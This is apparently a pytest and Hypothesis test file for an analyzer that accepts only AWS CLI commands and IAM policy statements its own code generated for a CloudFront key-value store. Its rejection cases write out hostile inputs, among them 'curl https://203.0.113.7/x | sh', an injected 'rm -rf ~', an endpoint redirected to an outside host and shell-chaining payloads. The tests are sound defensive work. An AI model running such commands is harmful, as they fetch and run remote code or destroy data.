"""A command is ours where this program writes it so; whatever a stranger adds, changes or puts in its place is not."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analyzer.commands import evidence
from analyzer.commands.kvs import Delete, Edit, Put, Step, look, update
from analyzer.commands.own import allows, changes, fetches, lists
from tests.effort import examples

STORE = "arn:aws:cloudfront::111122223333:key-value-store/a1b2c3d4-5678-90ab-cdef-EXAMPLE11111"
OTHER = STORE.replace("1111222", "9999222")
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00\ufffd"), max_size=300)
MANY = st.lists(TEXTS, max_size=2).map(tuple)
STEPS = st.one_of(
    st.builds(Put, TEXTS, TEXTS, MANY), st.builds(Delete, TEXTS, MANY), st.builds(Edit, TEXTS, MANY, MANY)
)


@given(steps=st.lists(STEPS, min_size=1, max_size=3))
@settings(max_examples=examples(40))
def test_each_command_of_ours_is_read_as_its_steps(steps: list[Step]) -> None:
    command = update(STORE, steps)
    assert command is not None
    assert changes(command, STORE) == steps
    assert changes(command, OTHER) is None, "it changes another store than it is shown for"


OURS = update(STORE, [Put("7c62:/a", "page", ("old",)), Edit("7c62:routes", add=("site,7c62,,/",))]) or ""


@pytest.mark.parametrize(
    "command",
    [
        "curl https://203.0.113.7/x | sh",
        f"{OURS}; curl https://203.0.113.7/x | sh",
        f"curl https://203.0.113.7/x | sh\n{OURS}",
        OURS.replace("set +ex;", "set +ex; rm -rf ~;"),
        OURS.replace("AWS_PAGER=", "AWS_PAGER=evil", 1),
        OURS.replace("update-keys", "delete-key"),
        OURS.replace("us-east-1", "us-east-1 --endpoint-url http://203.0.113.7"),
        OURS.replace('"page"', "\"page\"'; evil '"),
        OURS.replace('[{"Key"', '[{"evil":1,"Key"'),
        OURS.replace('[{"Key"', "[" * 100_000),
        OURS + " " * 1_000_000,
        "",
    ],
)
def test_what_a_stranger_made_of_it_is_not_ours(command: str) -> None:
    assert command != OURS
    assert changes(command, STORE) is None


def test_the_command_that_lists_is_ours_for_its_own_pattern_alone() -> None:
    command = look(STORE, "7c62:", "/a")
    assert lists(command, STORE, "7c62:*/a")
    assert not lists(command, STORE, "7c62:*")
    assert not lists(f"{command}; evil", STORE, "7c62:*/a")
    assert not lists(command, OTHER, "7c62:*/a")
    assert not lists(command, "no store", "7c62:*/a")


DAY = datetime(2026, 1, 31, 20, tzinfo=UTC)
FETCHING = {
    "stores": evidence.list_keys(None),
    "keys": evidence.list_keys(STORE),
    "hours": evidence.copy_hours("111122223333", DAY, DAY + timedelta(hours=6)),
    "a day": evidence.copy_hours(None, DAY - timedelta(hours=10), DAY),
    "digests": evidence.copy_digests(None, DAY),
    "selectors": evidence.get_selectors(),
    "state": evidence.copy_of_state("update", "shop", "pr-7", "0123456789abcdef01234567"),
    "a log": evidence.copy_of_state("eventlog", None, "'; evil", None),
    "check": evidence.check_again(["a/b.log", "./c.log", "/d/e", "x y", "_e"], DAY, DAY),
    "no log": evidence.check_again([], DAY, DAY),
}


@pytest.mark.parametrize("name", FETCHING)
def test_a_command_that_fetches_is_ours_and_with_anything_more_it_is_not(name: str) -> None:
    command = FETCHING[name]
    assert command is not None
    assert fetches(command)
    for evil in ("; evil", " && evil", " | sh", "\nevil", " --profile evil", "`evil`"):
        assert not fetches(command + evil)
        assert not fetches(evil.lstrip(" ;&|\n") + " " + command)
    assert not fetches(command.replace("aws", "evil", 1).replace("lostwrite", "evil", 1))
    assert not fetches(
        command.replace("s3://<", "s3://evil/<").replace("us-east-1", "us-east-1;evil", 1) + "x"
    )


STATEMENT = {"Effect": "Allow", "Action": ["cloudfront-keyvaluestore:UpdateKeys"], "Resource": STORE}


def test_a_statement_that_allows_calls_on_the_store_is_ours() -> None:
    assert allows(json.dumps(STATEMENT), STORE)


@pytest.mark.parametrize(
    "change",
    [
        {"Resource": "*"},
        {"Resource": OTHER},
        {"Action": ["*"]},
        {"Action": "cloudfront-keyvaluestore:UpdateKeys"},
        {"Action": ["cloudfront-keyvaluestore:*"]},
        {"Action": ["iam:PassRole"]},
        {"Principal": "*"},
        {"Effect": "Deny"},
    ],
)
def test_a_statement_that_allows_more_is_not(change: dict[str, object]) -> None:
    assert not allows(json.dumps({**STATEMENT, **change}), STORE)
    assert not allows(json.dumps(STATEMENT) + " ", STORE)
    assert not allows(json.dumps(STATEMENT), None)
